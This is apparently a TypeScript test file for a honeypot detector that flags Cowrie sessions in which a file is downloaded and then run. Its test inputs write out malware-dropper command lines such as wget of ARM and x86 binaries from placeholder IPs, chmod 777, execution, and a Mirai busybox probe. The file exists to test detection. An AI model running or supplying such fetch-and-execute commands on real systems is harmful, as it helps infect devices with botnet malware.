import assert from "node:assert/strict";
import { DownloadThenRun } from "../../src/features/download-then-run";

const command = (session: string, input: string) => ({ session, eventid: "cowrie.command.input", input });

describe("DownloadThenRun", () => {
  it("finds a fetch then a run in one session, once", () => {
    const drops = new DownloadThenRun();
    assert.equal(drops.observe(command("a", "cd /tmp; wget http://203.0.113.9/x86")), false);
    assert.equal(drops.observe({ session: "a", eventid: "cowrie.session.file_download", url: "http://203.0.113.9/x86" }), false);
    assert.equal(drops.observe(command("a", "chmod 777 x86")), true);
    assert.equal(drops.observe(command("a", "./x86")), false, "the session already counted");
  });

  it("counts a failed download, an upload, and a fetch and run on one command line", () => {
    const drops = new DownloadThenRun();
    drops.observe({ session: "b", eventid: "cowrie.session.file_download.failed" });
    assert.equal(drops.observe(command("b", "sh bins.sh")), true);
    drops.observe({ session: "c", eventid: "cowrie.session.file_upload" });
    assert.equal(drops.observe(command("c", "/tmp/payload")), true);
    assert.equal(drops.observe(command("d", "cd /tmp || cd /var/run; /usr/bin/wget http://x/b; chmod +x b; ./b")), true);
  });

  it("does not call a shell alone, or a run in another session, a malware drop", () => {
    const drops = new DownloadThenRun();
    assert.equal(drops.observe(command("e", "enable; system; shell; sh")), false);
    assert.equal(drops.observe(command("p", "tftp; wget; /bin/busybox XRCUK")), false, "Mirai's probe fetches nothing");
    assert.equal(drops.observe(command("p", "sh")), false);
    assert.equal(drops.observe(command("q", "/bin/busybox wget http://192.0.2.7/m.arm7; /bin/busybox chmod 777 m.arm7")), true, "busybox's applets");
    drops.observe(command("f", "wget http://x/b"));
    assert.equal(drops.observe(command("g", "chmod +x b; ./b")), false);
    assert.equal(drops.observe(command("f", "uname -a")), false);
  });
});
